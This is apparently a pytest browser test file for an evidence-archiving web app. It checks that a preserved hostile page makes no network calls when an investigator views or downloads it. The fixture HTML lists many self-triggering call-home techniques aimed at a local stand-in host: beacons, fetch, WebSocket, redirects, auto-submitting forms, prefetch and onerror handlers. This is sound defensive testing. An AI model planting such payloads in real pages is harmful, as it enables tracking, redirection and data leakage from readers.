"""A53 in a real browser: a preserved page that wants to call home, and a machine that listens for it."""

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

ITEM = "/cases/NC-2024/evidence/1/"
# Everything by which a page sends something when it is opened, without anybody's click.
HOSTILE = """<!doctype html><html><head><title>Nouméa</title><base href="{troll}/base/">
<meta http-equiv="refresh" content="0;url={troll}/refresh">
<link rel="preconnect" href="{troll}"><link rel="dns-prefetch" href="{troll}">
<link rel="prefetch" href="{troll}/prefetch"><link rel="preload" as="image" href="{troll}/preload">
<link rel="stylesheet" href="{troll}/style.css"><link rel="icon" href="{troll}/icon.png">
<style>@import url({troll}/import.css); body {{ background: url({troll}/background.png) }}</style>
<script src="{troll}/script.js"></script>
<script>
navigator.serviceWorker && navigator.serviceWorker.register("/worker.js");
fetch("{troll}/fetch"); navigator.sendBeacon("{troll}/beacon"); new WebSocket("{socket}/socket");
top.location = "{troll}/top"; if (window.opener) window.opener.location = "{troll}/opener";
addEventListener("load", () => document.forms[0].submit());
</script></head><body onload="location='{troll}/onload'">
<p>What a reader saw.</p>
<img src="{troll}/pixel.png" srcset="{troll}/set.png 2x" onerror="fetch('{troll}/onerror')">
<iframe src="{troll}/frame" srcdoc="<img src='{troll}/srcdoc'>"></iframe>
<object data="{troll}/object"></object><embed src="{troll}/embed">
<video src="{troll}/film" poster="{troll}/poster" autoplay></video><audio src="{troll}/sound" autoplay></audio>
<form action="{troll}/form"><input name="q" value="x" autofocus onfocus="this.form.submit()"></form>
<svg><image href="{troll}/svg.png"/><use href="{troll}/use.svg#x"/></svg>
<a href="{troll}/link" ping="{troll}/ping">a link</a>
</body></html>"""


@pytest.fixture
def troll() -> Iterator[socket.socket]:
    """A machine of the other side: any connection to it waits in its queue, even one that sends nothing."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        yield listening


def address_of(troll: socket.socket) -> str:
    return f"127.0.0.1:{troll.getsockname()[1]}"


def hostile_page(troll: socket.socket) -> str:
    return HOSTILE.format(troll=f"http://{address_of(troll)}", socket=f"ws://{address_of(troll)}")


def check_nobody_called(troll: socket.socket) -> None:
    troll.setblocking(False)
    with pytest.raises(BlockingIOError):
        troll.accept()


@pytest.fixture
def opened(newsroom, window, troll):
    """A watched browser of the investigator on the item page of the hostile exhibit."""
    newsroom.log(hostile_page(troll).encode(), "page.html", original_url=f"http://{address_of(troll)}/", derive=True)
    watched = window(user=newsroom.investigator)
    watched.asked = []
    watched.page.on("request", lambda request: watched.asked.append(request.url))
    return watched


@pytest.mark.parametrize(("path", "shown"), [(ITEM, "What a reader saw."), (f"{ITEM}source/", "sendBeacon")])
def test_looking_at_a_hostile_page_calls_nobody_and_goes_nowhere(opened, live_server, troll, path, shown):
    """A53: neither a request nor a bare connection, no frame, no worker, no other page."""
    page = opened.open(path)
    page.wait_for_load_state("networkidle")
    assert shown in page.locator(".preserved").inner_text()
    assert page.url == live_server.url + path
    assert len(page.frames) == 1
    assert opened.context.pages == [page]
    assert opened.context.service_workers == []
    assert [url for url in opened.asked if not url.startswith(live_server.url)] == []
    assert opened.complaints == []
    check_nobody_called(troll)


def test_original_of_a_hostile_page_is_saved_and_not_opened(opened, live_server, troll, tmp_path: Path):
    """A53: the download is a file on the person's own disk, and the page they were on stays."""
    page = opened.open(ITEM)
    with page.expect_download() as download:
        page.click("text=Download original")
    download.value.save_as(tmp_path / "saved")
    assert "serviceWorker" in (tmp_path / "saved").read_text()
    assert page.url == live_server.url + ITEM
    check_nobody_called(troll)


def test_the_same_page_opened_as_a_page_does_call(browser, troll, tmp_path: Path):
    """Otherwise the tests above would hold for a page that is harmless."""
    (tmp_path / "page.html").write_text(hostile_page(troll))
    context = browser.new_context()
    try:
        context.new_page().goto((tmp_path / "page.html").as_uri(), wait_until="commit")
        troll.settimeout(30)
        caller, (host, _) = troll.accept()
        caller.close()
        assert host == "127.0.0.1"
    finally:
        context.close()
